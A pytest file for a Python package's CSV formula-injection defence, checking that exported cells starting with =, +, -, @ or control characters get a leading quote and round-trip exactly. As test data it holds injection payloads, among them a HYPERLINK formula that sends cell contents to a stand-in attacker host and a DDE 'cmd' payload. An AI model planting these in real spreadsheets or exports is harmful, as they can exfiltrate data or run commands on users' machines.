"""CSV safe in spreadsheets (diplo.io.csvsafe): formulas escaped in every CSV diplo writes, parquet unchanged."""

from __future__ import annotations

import csv

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from diplo import load_outputs, run_pipeline
from diplo.io.csvsafe import escape_formulas, read_csv, unescape_formulas, write_csv

from conftest import GOOD_TEXT

TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
OUTLET = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("'=1", "''=1"),  # already quoted: one more, so reading undoes it
    ("-0.5", "-0.5"), ("+3", "+3"), ("-1e-05", "-1e-05"), ("ok", "ok"), ("a=b", "a=b"), ("", ""), ("'x", "'x"),
])
def test_cells_a_spreadsheet_would_run_get_a_quote(value, written):
    df = pd.DataFrame({"text": [value], "n": [1.5]})
    assert escape_formulas(df)["text"].tolist() == [written]
    assert unescape_formulas(escape_formulas(df)).equals(df)
    assert df["text"].tolist() == [value]  # the caller's frame is not changed


@settings(max_examples=60, deadline=None)
# (no carriage return inside the text: Python's csv writer, which pandas uses, does not quote it, so any reader
# splits the row there; a separate, older limitation of the CSV files)
@given(st.lists(st.one_of(st.none(), st.text(alphabet=st.sampled_from("=+-@\t'a1.e, \"\n")), st.floats()),
                min_size=1, max_size=8))
def test_escaping_is_undone_exactly_through_a_file(tmp_path_factory, values):
    df = pd.DataFrame({"v": pd.Series([v if not isinstance(v, float) else None for v in values], dtype=object),
                       "k": range(len(values))})
    path = tmp_path_factory.mktemp("csv") / "t.csv"
    write_csv(df, path)
    assert [c for c in _cells(path)[::2] if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(c)] == []
    back = read_csv(path, dtype={"v": str}, keep_default_na=False)
    assert back["v"].tolist() == ["" if v is None else v for v in df["v"]]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return cell.strip() == cell and cell.lower().lstrip("+-")[:1] in "0123456789."


@pytest.fixture(scope="module")
def injected(tmp_path_factory):
    """A run whose metadata.csv, CSV export and HTML page carry formulas."""
    base = tmp_path_factory.mktemp("inject")
    raw = base / "raw"
    raw.mkdir()
    (raw / "good.txt").write_text(GOOD_TEXT)
    (raw / "@page.html").write_text(
        f"<html><head><title>-2+3 headline</title><meta property='og:site_name' content='=1+2'></head><body>"
        f"<article><p>{GOOD_TEXT}</p><p>{GOOD_TEXT}</p></article></body></html>")
    (raw / "export.csv").write_text('text,outlet,date\n"' + GOOD_TEXT.replace("\n", " ") + '",@SUM(A1),2023-01-02\n'
                                    '"",=bad,2023-01-03\n')
    (raw / "metadata.csv").write_text(f'file,title,outlet,date\ngood.txt,"{TITLE.replace(chr(34), chr(34) * 2)}",'
                                      f'"{OUTLET}",2023-01-01\n')
    out = base / "out"
    run_pipeline(raw, out, scorers=["vader"])
    return out


def _cells(path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in list(csv.reader(fh))[1:] for cell in row]


@pytest.mark.parametrize("name", ["articles.csv", "tone_by_outlet.csv", "manifest.csv", "rejected_rows.csv"])
def test_no_csv_cell_of_a_run_starts_a_formula(injected, name):
    cells = _cells(injected / name)
    assert cells
    risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(c)]
    assert risky == []


def test_parquet_and_load_outputs_keep_the_original_text(injected):
    articles = pd.read_parquet(injected / "articles.parquet").set_index("doc_id")
    assert articles.loc["good", "title"] == TITLE and articles.loc["good", "outlet"] == OUTLET
    assert "'" + TITLE in _cells(injected / "articles.csv")
    assert "'" + OUTLET in _cells(injected / "tone_by_outlet.csv")
    assert "'@SUM(A1)" in _cells(injected / "tone_by_outlet.csv")
    tables = load_outputs(injected)
    assert "@page.html" in tables["manifest"]["source_file"].tolist()  # read back as written by the run
    assert "'@page.html" in _cells(injected / "manifest.csv")
    assert "'@page.html" not in tables["manifest"]["source_file"].tolist()


def test_report_tables_are_escaped(tmp_path):
    from diplo.report.params import parse_params
    from diplo.report.session import NotebookRun

    (tmp_path / "raw").mkdir()
    params = parse_params(raw_dir=str(tmp_path / "raw"), output_dir=str(tmp_path / "out"))
    run = NotebookRun(params, "01_corpus", {}, pd.DataFrame(columns=["doc_id"]))
    run.table(pd.DataFrame({"outlet": [OUTLET, "Press TV"], "n": [1, 2]}), "outlets")
    assert _cells(tmp_path / "out" / "tables" / "01_corpus" / "outlets.csv") == ["'" + OUTLET, "1", "Press TV", "2"]


def test_the_codebook_says_so(injected):
    assert "leading `'`" in (injected / "CODEBOOK.md").read_text() and "Parquet files keep the original" in \
        (injected / "CODEBOOK.md").read_text()
